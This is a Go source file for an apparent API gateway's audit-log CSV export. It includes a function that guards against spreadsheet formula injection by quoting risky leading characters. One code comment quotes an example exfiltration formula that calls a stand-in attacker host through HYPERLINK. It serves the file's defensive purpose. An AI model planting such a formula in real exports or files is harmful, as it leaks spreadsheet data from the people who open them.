package handlers

import (
	"encoding/csv"
	"io"
	"strconv"
	"strings"
	"time"

	"github.com/drawbridge/drawbridge/models"
)

// auditCSVHeader names the export's columns: every field of an event.
var auditCSVHeader = []string{
	"id", "at", "kind", "request_id", "writer", "seq", "prev_hash", "hash",
	"user_id", "user_email", "service_account", "client_id", "route_id", "route_name",
	"http_method", "mcp_method", "tool", "arguments", "decision", "reasons", "config_version", "source_ip",
	"status", "rpc_error_code", "is_error", "duration_micros", "response_bytes", "outcome_at",
}

// auditCSVRecord is one event as a CSV row, in auditCSVHeader's order.
func auditCSVRecord(e *models.AuditEvent, row []string) []string {
	row = row[:0]
	optUint := func(p *uint) string {
		if p == nil {
			return ""
		}
		return strconv.FormatUint(uint64(*p), 10)
	}
	optInt := func(p *int) string {
		if p == nil {
			return ""
		}
		return strconv.Itoa(*p)
	}
	optInt64 := func(p *int64) string {
		if p == nil {
			return ""
		}
		return strconv.FormatInt(*p, 10)
	}
	isError, outcomeAt := "", ""
	if e.IsError != nil {
		isError = strconv.FormatBool(*e.IsError)
	}
	if e.OutcomeAt != nil {
		outcomeAt = e.OutcomeAt.UTC().Format(time.RFC3339Nano)
	}
	return append(row,
		strconv.FormatUint(e.ID, 10), e.At.UTC().Format(time.RFC3339Nano), e.Kind, e.RequestID, e.Writer,
		strconv.FormatUint(e.Seq, 10), e.PrevHash, e.Hash,
		optUint(e.UserID), e.UserEmail, e.ServiceAccount, e.ClientID, optUint(e.RouteID), e.RouteName,
		e.HTTPMethod, e.MCPMethod, e.Tool, e.Arguments, e.Decision, e.Reasons,
		strconv.FormatInt(e.ConfigVersion, 10), e.SourceIP,
		optInt(e.Status), optInt(e.RPCErrorCode), isError, optInt64(e.DurationMicros), optInt64(e.ResponseBytes), outcomeAt,
	)
}

// csvFormulaStarts are the first characters that make a spreadsheet read
// a cell as a formula (=, +, -, @), or that Excel and LibreOffice skip
// before looking for one (tab, carriage return); and the quote that
// escapes them, so that the escape itself can be undone.
const csvFormulaStarts = "=+-@\t\r'"

// csvSafeCell defends the person who opens an export in a spreadsheet:
// tool arguments, emails, client ids and most other fields are whatever a
// caller sent, and a cell such as =HYPERLINK("https://evil.example/?"&A1)
// would run as a formula. A cell that begins with one of
// csvFormulaStarts gets a single quote in front, which spreadsheets read
// as "text follows". The quote itself is escaped too, so the rule is
// lossless: a reader who wants the exact values strips one leading quote
// from every cell that starts with one, and only from those. A negative
// integer (rpc_error_code's -32600) is a number to a spreadsheet, not a
// formula, and stays as it is; the rule is still lossless, since a cell
// that starts with a quote is always escaped.
func csvSafeCell(s string) string {
	if s != "" && strings.IndexByte(csvFormulaStarts, s[0]) >= 0 && !negativeInteger(s) {
		return "'" + s
	}
	return s
}

// negativeInteger reports whether s is "-" and one or more ASCII digits.
func negativeInteger(s string) bool {
	if len(s) < 2 || s[0] != '-' {
		return false
	}
	for i := 1; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// auditCSVWriter writes events as the export's CSV, every cell through
// csvSafeCell.
type auditCSVWriter struct {
	w   *csv.Writer
	row []string
}

func newAuditCSVWriter(w io.Writer) *auditCSVWriter {
	return &auditCSVWriter{w: csv.NewWriter(w), row: make([]string, 0, len(auditCSVHeader))}
}

// WriteHeader writes the column names.
func (a *auditCSVWriter) WriteHeader() error {
	return a.writeRow(append(a.row[:0], auditCSVHeader...))
}

// Write writes e as a row.
func (a *auditCSVWriter) Write(e *models.AuditEvent) error {
	return a.writeRow(auditCSVRecord(e, a.row))
}

// writeRow escapes row's cells in place and writes it through to the
// underlying writer, so that the caller's buffering decides when bytes
// leave.
func (a *auditCSVWriter) writeRow(row []string) error {
	for i, cell := range row {
		row[i] = csvSafeCell(cell)
	}
	a.row = row
	if err := a.w.Write(row); err != nil {
		return err
	}
	a.w.Flush()
	return a.w.Error()
}
